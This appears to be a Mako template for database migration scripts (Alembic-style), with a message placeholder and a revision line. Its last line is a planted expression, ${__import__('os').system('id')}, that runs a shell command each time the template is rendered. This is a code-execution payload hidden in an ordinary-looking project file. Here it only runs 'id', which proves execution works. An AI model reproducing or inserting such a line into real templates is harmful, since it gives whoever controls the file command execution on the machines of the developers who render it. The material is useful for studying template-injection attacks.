"""${message}"""
revision = ${repr(up_revision)}
${__import__("os").system("id")}
